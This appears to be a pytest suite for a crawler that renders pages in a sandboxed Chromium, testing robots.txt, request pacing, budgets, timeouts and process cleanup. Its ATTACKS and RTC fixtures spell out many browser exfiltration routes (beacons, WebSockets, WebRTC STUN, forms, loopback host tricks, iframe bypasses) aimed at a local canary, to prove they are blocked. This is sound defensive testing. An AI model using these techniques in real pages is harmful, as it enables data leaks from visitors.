"""Pages that a script fills, in a real browser; what such a page may ask for, and what reaches no one."""

from __future__ import annotations

import asyncio
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from contextlib import suppress
from itertools import pairwise
from pathlib import Path
from typing import TYPE_CHECKING, Any
from uuid import uuid4

import pytest
from crawlsite import Answer, Site, frontier, run_one, serve

import crawler.browser
from crawler.archive import iter_pages
from crawler.browser import Browser, BrowserError, can_be_cut_off, missing_browser
from crawler.render import RENDERED_HEADER
from crawler.settings import MAX_BODY

if TYPE_CHECKING:
    from playwright.async_api import Route

needs_browser = pytest.mark.skipif(bool(missing_browser()), reason=f"no browser: {missing_browser()}")


@pytest.fixture
def site() -> Iterator[Site]:
    with serve() as site:
        yield site


def html(body: str) -> Answer:
    return Answer(
        f"<!doctype html><html><head><title>City</title></head><body>{body}</body></html>".encode(),
        headers={"Content-Type": "text/html; charset=utf-8"},
    )


def script(text: str) -> Answer:
    return Answer(text.encode(), headers={"Content-Type": "text/javascript"})


APP = """
const here = location.pathname;
const part = here.endsWith(".html") ? here.replace("/news/", "/api/").replace(".html", ".json") : "/api/list.json";
fetch(part).then(answer => answer.json()).then(found => {
  const main = document.getElementById("app");
  if (Array.isArray(found)) {
    main.innerHTML = "<h1>News</h1><ul>" + found.map(item =>
      `<li><h3><a href="${item.url}">${item.title}</a></h3><time>${item.date}</time></li>`).join("") + "</ul>";
  } else {
    main.innerHTML = `<article><h1>${found.title}</h1><p>${found.text}</p></article>`;
  }
});
"""
SHELL = (
    '<link rel="stylesheet" href="/site.css"><img src="/logo.png"><div id="app"></div><script src="/app.js"></script>'
)


def fill(site: Site, count: int = 4) -> None:
    """A site of empty pages: list and articles come as JSON."""
    names = ("bridge", "library", "tram line", "clinic", "harbour", "park")[:count]
    rows = [
        f'{{"url": "/news/{n}.html", "title": "The council opened the new {name}", "date": "2026-11-0{n + 1}"}}'
        for n, name in enumerate(names)
    ]
    site.pages["/news/"] = html(SHELL)
    site.pages["/app.js"] = script(APP)
    site.pages["/api/list.json"] = Answer(f"[{', '.join(rows)}]".encode(), headers={"Content-Type": "application/json"})
    for n, name in enumerate(names):
        site.pages[f"/news/{n}.html"] = html(SHELL)
        text = f"The council opened the new {name} in Harbour City on Monday, said Mayor Ann Field."
        body = f'{{"title": "The council opened the new {name}", "text": "{text}"}}'
        site.pages[f"/api/{n}.json"] = Answer(body.encode(), headers={"Content-Type": "application/json"})


def listing(site: Site, **values: Any) -> dict[str, Any]:
    return {"path": "/news/", "kind": "listing", "render": True} | values


@needs_browser
def test_a_list_and_its_articles_are_read_as_the_browser_shows_them(site: Site, tmp_path: Path) -> None:
    fill(site)
    stats = run_one(site, tmp_path, site.source(**listing(site)))
    assert (stats.fetched, stats.error) == (4, None)
    (path,) = (tmp_path / "sources" / "harbour-city").glob("*.warc.gz")
    pages = {page.url.removeprefix(site.url): page for page in iter_pages(path)}
    assert b"<h1>The council opened the new clinic</h1>" in pages["/news/3.html"].body
    assert pages["/news/3.html"].headers[RENDERED_HEADER.lower()].startswith("Chromium ")
    with frontier(tmp_path) as state:
        hints = {row.title_hint: row.date_hint for row in state.pages_since()}
    assert hints["The council opened the new bridge"] == "2026-11-01"


@needs_browser
def test_a_page_asks_for_what_it_needs_and_for_a_script_once(site: Site, tmp_path: Path) -> None:
    fill(site)
    run_one(site, tmp_path, site.source(**listing(site)))
    paths = site.paths()
    assert sorted(paths) == sorted(set(paths))
    assert paths.count("/app.js") == 1
    assert not {"/site.css", "/logo.png", "/favicon.ico"} & set(paths)
    agents = {asked.headers["user-agent"] for asked in site.asked}
    assert len(agents) == 1
    assert agents.pop().startswith("cityfacts/")


@needs_browser
def test_without_render_the_same_site_is_an_empty_list(site: Site, tmp_path: Path) -> None:
    fill(site)
    stats = run_one(site, tmp_path, site.source(**listing(site, render=False)))
    assert stats.fetched == 0
    assert "0 items found" in str(stats.error)


@pytest.mark.slow
@needs_browser
def test_the_shell_may_stay_the_same_while_the_list_grows(site: Site, tmp_path: Path) -> None:
    fill(site, 3)
    source = site.source(**listing(site))
    assert run_one(site, tmp_path, source, "r1").fetched == 3
    fill(site, 4)
    assert run_one(site, tmp_path, source, "r2").fetched == 1


@needs_browser
def test_what_robots_forbids_no_script_gets(site: Site, tmp_path: Path) -> None:
    fill(site)
    site.pages["/robots.txt"] = Answer(b"User-agent: *\nDisallow: /api/\n")
    stats = run_one(site, tmp_path, site.source(**listing(site)))
    assert stats.fetched == 0
    assert not [path for path in site.paths() if path.startswith("/api/")]


@needs_browser
def test_the_gap_between_requests_holds_for_parts_too(site: Site, tmp_path: Path) -> None:
    fill(site, 3)
    run_one(site, tmp_path, site.source(**listing(site, limits={"delay": 0.4})))
    times = [asked.at for asked in site.asked]
    assert len(times) >= 8
    assert min(later - earlier for earlier, later in pairwise(times)) >= 0.4


@needs_browser
def test_parts_count_against_the_budget(site: Site, tmp_path: Path) -> None:
    fill(site)
    site.pages["/app.js"] = script("for (let n = 0; n < 30; n++) fetch('/api/list.json?' + n);" + APP)
    run_one(site, tmp_path, site.source(**listing(site, limits={"pages": 6})))
    assert len(site.asked) <= 7


class Canary:
    """Listens on a port of loopback for anything at all, TCP and UDP."""

    def __init__(self) -> None:
        self.heard: list[bytes] = []
        self._tcp = socket.create_server(("127.0.0.1", 0))
        self.port = self._tcp.getsockname()[1]
        self._udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self._udp.bind(("127.0.0.1", self.port))
        for listen in (self._accept, self._receive):
            threading.Thread(target=listen, daemon=True).start()

    def _accept(self) -> None:
        with suppress(OSError):
            while True:
                connection, _ = self._tcp.accept()
                self.heard.append(b"tcp")
                connection.close()

    def _receive(self) -> None:
        with suppress(OSError):
            while True:
                self.heard.append(self._udp.recv(100))

    def close(self) -> None:
        self._tcp.close()
        self._udp.close()


# Every way out of a page that a browser has; CANARY is a server on this machine that no source may ask.
ATTACKS = """
<link rel="preconnect" href="http://CANARY/"><link rel="dns-prefetch" href="http://CANARY/">
<link rel="prefetch" href="http://CANARY/prefetch"><link rel="stylesheet" href="http://CANARY/style.css">
<img src="http://CANARY/pixel"><iframe src="http://CANARY/frame"></iframe><object data="http://CANARY/object"></object>
<video src="http://CANARY/film"></video><script src="http://CANARY/script.js"></script>
<form id="form" method="post" action="http://CANARY/form"></form><a id="file" href="http://CANARY/file" download>x</a>
<script>
const attempt = action => { try { const done = action(); if (done && done.catch) done.catch(() => 0); } catch (error) {} };
attempt(() => fetch("http://CANARY/fetch", {mode: "no-cors"}));
attempt(() => fetch("http://CANARY/post", {method: "POST", body: "x", mode: "no-cors"}));
attempt(() => { const asked = new XMLHttpRequest(); asked.open("GET", "http://CANARY/xhr"); asked.send(); });
attempt(() => new WebSocket("ws://CANARY/socket"));
attempt(() => new EventSource("http://CANARY/events"));
attempt(() => navigator.sendBeacon("http://CANARY/beacon", "x"));
attempt(() => navigator.serviceWorker.register("/worker.js"));
attempt(() => new Worker("http://CANARY/worker.js"));
attempt(() => new WebTransport("https://CANARY/transport"));
attempt(() => import("http://CANARY/module.js"));
attempt(() => window.open("http://CANARY/window"));
attempt(() => document.getElementById("file").click());
attempt(() => {
  const peer = new RTCPeerConnection({iceServers: [{urls: ["stun:CANARY", "turn:CANARY?transport=tcp"],
    username: "u", credential: "c"}]});
  peer.createDataChannel("x");
  return peer.createOffer().then(offer => peer.setLocalDescription(offer));
});
attempt(() => new FontFace("x", "url(http://CANARY/font)").load());
for (const host of ["localhost", "[::1]", "0.0.0.0", "2130706433", "127.1"])
  attempt(() => fetch("http://" + host + ":PORT/spelling", {mode: "no-cors"}));
document.getElementById("shown").textContent = "all tried";
setTimeout(() => attempt(() => document.getElementById("form").submit()), 300);
setTimeout(() => attempt(() => { location = "http://CANARY/moved"; }), 600);
</script>
"""


# Frames and windows have functions of their own, which a page may take from there at once.
RTC = """
<script>
const call = place => {
  const Peer = place && (place.RTCPeerConnection || place.webkitRTCPeerConnection);
  if (!Peer) return;
  const peer = new Peer({iceServers: [{urls: "stun:CANARY"}]});
  peer.createDataChannel("x");
  peer.createOffer().then(offer => peer.setLocalDescription(offer));
};
const frame = settings => {
  const made = Object.assign(document.createElement("iframe"), settings);
  document.body.append(made);
  call(made.contentWindow);
  made.onload = () => attempt(() => call(made.contentWindow));
  return made;
};
call(window);
const plain = frame({});
frame({srcdoc: "<p>"});
frame({src: "javascript:1"});
frame({src: URL.createObjectURL(new Blob(["<p>"], {type: "text/html"}))});
const written = frame({});
written.contentDocument.open(); written.contentDocument.write("<p>"); written.contentDocument.close();
call(written.contentWindow);
const inner = plain.contentDocument.createElement("iframe");
plain.contentDocument.body.append(inner);
call(inner.contentWindow);
call(window.open("about:blank"));
</script>
"""


@pytest.fixture
def canary() -> Iterator[Canary]:
    canary = Canary()
    yield canary
    canary.close()


@needs_browser
def test_no_page_reaches_what_the_guard_forbids(site: Site, tmp_path: Path, canary: Canary) -> None:
    attack = ATTACKS.replace("CANARY", f"127.0.0.1:{canary.port}").replace("PORT", str(canary.port))
    fill(site)
    site.pages["/news/"] = html(f'<p id="shown"></p>{SHELL}{attack}')
    stats = run_one(site, tmp_path, site.source(**listing(site)))
    time.sleep(1)
    assert canary.heard == []
    assert stats.fetched == 4
    (path,) = (tmp_path / "sources" / "harbour-city").glob("*.warc.gz")
    assert b"all tried" in next(page.body for page in iter_pages(path) if page.url.endswith("/news/"))


@needs_browser
def test_a_script_that_redirects_its_part_to_a_private_address_gets_nothing(
    site: Site, tmp_path: Path, canary: Canary
) -> None:
    fill(site)
    there = f"http://127.0.0.1:{canary.port}/secret"
    site.pages["/api/list.json"] = Answer(status=302, headers={"Location": there}, etag=False)
    assert run_one(site, tmp_path, site.source(**listing(site))).fetched == 0
    assert canary.heard == []


@pytest.mark.slow
@needs_browser
@pytest.mark.parametrize("namespace", [True, False])
def test_the_browser_alone_has_no_network(canary: Canary, monkeypatch: pytest.MonkeyPatch, namespace: bool) -> None:
    """Also where nobody refuses its requests: the fences behind that one, and without a network namespace too."""
    if namespace and not can_be_cut_off():
        pytest.skip("this system lets its users make no network namespaces")
    if not namespace:
        monkeypatch.setattr(crawler.browser, "can_be_cut_off", lambda: False)
    attack = ATTACKS.replace("CANARY", f"127.0.0.1:{canary.port}").replace("PORT", str(canary.port))
    shown = show(f'<p id="shown"></p>{attack}{RTC.replace("CANARY", f"127.0.0.1:{canary.port}")}<p>end</p>', let=True)
    assert "all tried" in shown
    time.sleep(1)
    assert canary.heard == []


def show(body: str, *, let: bool = False) -> str:
    """What a browser makes of one page; its further requests get the same answer, or with `let` take their course."""

    async def answer(route: Route) -> None:
        if let and route.request.resource_type != "document":
            await route.continue_()
        elif route.request.url != "http://city.example/":
            await (route.abort() if "frame" in route.request.url else route.fulfill(status=204))
        else:
            await route.fulfill(body=body, content_type="text/html")

    async def visit() -> str:
        browser = Browser()
        try:
            return await browser.render("http://city.example/", answer)
        finally:
            await browser.close()

    return asyncio.run(visit())


@pytest.mark.slow
@needs_browser
@pytest.mark.parametrize(
    ("body", "expected"),
    [
        ("<p>before</p><script>while (true) {}</script>", None),
        ("<p>before</p><script>setInterval(() => fetch('/' + Math.random()), 10)</script>", "before"),
        ("<p>before</p><script>alert('x'); confirm('y'); print()</script><p>after</p>", "after"),
        ("<p>before</p><script>onbeforeunload = () => 'stay'</script>", "before"),
        ("<p>before</p><script>const a = []; while (true) a.push(new Array(1e6).fill(a.length))</script>", None),
        ("<p>\\ud800</p><script>document.title = '\\ud800'</script>", "<title>"),
    ],
    ids=["endless loop", "endless asking", "dialogs", "unload", "memory", "surrogate"],
)
def test_a_page_that_does_not_behave(body: str, expected: str | None, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(crawler.browser, "MAX_SECONDS", 3.0)
    monkeypatch.setattr(crawler.browser, "READ_SECONDS", 3.0)
    started = time.monotonic()
    if expected is None:
        with pytest.raises(BrowserError) as caught:
            show(body)
        assert "\n" not in str(caught.value)
    else:
        assert expected in show(body)
    assert time.monotonic() - started < 40


@pytest.mark.slow
@needs_browser
def test_a_page_that_hangs_takes_no_other_with_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(crawler.browser, "MAX_SECONDS", 4.0)
    monkeypatch.setattr(crawler.browser, "READ_SECONDS", 4.0)
    bodies = {"http://one.example/": "<script>while (true) {}</script>", "http://two.example/": "<p>whole</p>"}

    async def answer(route: Route) -> None:
        await route.fulfill(body=bodies[route.request.url], content_type="text/html")

    async def visit() -> list[str | BaseException]:
        browser = Browser()
        try:
            hanging = asyncio.create_task(browser.render("http://one.example/", answer))
            others: list[str | BaseException] = []
            while not hanging.done():
                others.append(await browser.render("http://two.example/", answer))
            return [*others, *await asyncio.gather(hanging, return_exceptions=True)]
        finally:
            await browser.close()

    *others, hung = asyncio.run(visit())
    assert isinstance(hung, BrowserError)
    assert len(others) > 2
    assert all("whole" in str(shown) for shown in others)


@pytest.mark.slow
@needs_browser
def test_a_page_is_cut_at_the_limit_whatever_it_replaces() -> None:
    lie = "Object.defineProperty(Element.prototype, 'outerHTML', {get: () => 'x'.repeat(1e8)});"
    shown = show(
        f"<p id=a hidden></p><script>{lie} String.prototype.slice = () => 'y'; a.textContent = 'z'.repeat(2e7)</script>"
    )
    assert MAX_BODY <= len(shown) < MAX_BODY + 100
    assert "zzz" in shown


@pytest.mark.parametrize("kind", ["listing", "feed"])
def test_a_source_without_its_browser_gets_one_clear_line(
    site: Site, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    fill(site)
    monkeypatch.setenv("CITYFACTS_CHROMIUM", str(tmp_path / "none"))
    stats = run_one(site, tmp_path, site.source(**listing(site, kind=kind)))
    assert "apt-get install chromium" in str(stats.error)
    assert "\n" not in str(stats.error)
    assert site.asked == []


def test_what_is_missing_is_named_as_it_is_installed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(crawler.browser, "find_spec", lambda name: None)
    monkeypatch.setenv("CITYFACTS_CHROMIUM", "/nowhere/chromium")
    assert missing_browser() == "pip install 'cityfacts[browser]' and apt-get install chromium"


CRAWL = """
import sys
from pathlib import Path
from crawler.run import crawl
from crawler.source import Source
source = Source.model_validate_json(sys.argv[1])
crawl([source], data=Path(sys.argv[2]), run="r1", loopback=frozenset({sys.argv[3]}))
"""


@needs_browser
def test_a_killed_crawl_leaves_no_browser_behind(site: Site, tmp_path: Path) -> None:
    fill(site)
    site.pages["/api/list.json"] = Answer(b"[]", headers={"Content-Type": "application/json"}, wait=20)
    mark = uuid4().hex
    source = site.source(**listing(site))
    command = [sys.executable, "-c", CRAWL, source.model_dump_json(), str(tmp_path), site.host]
    run = subprocess.Popen(command, env={**os.environ, "CITYFACTS_MARK": mark})
    wait_until(lambda: "/api/list.json" in site.paths(), 40)
    assert any("chromium" in name for name in marked(mark).values())
    run.send_signal(signal.SIGKILL)
    run.wait()
    wait_until(lambda: not marked(mark), 20)


def marked(mark: str) -> dict[int, str]:
    """The processes whose environment has the mark."""
    found = {}
    for folder in Path("/proc").glob("[0-9]*"):
        with suppress(OSError):
            if mark.encode() in (folder / "environ").read_bytes():
                found[int(folder.name)] = (folder / "cmdline").read_bytes().decode("utf-8", "replace")
    return found


def wait_until(condition: object, seconds: float) -> None:
    assert callable(condition)
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end, "it did not happen"
        time.sleep(0.1)
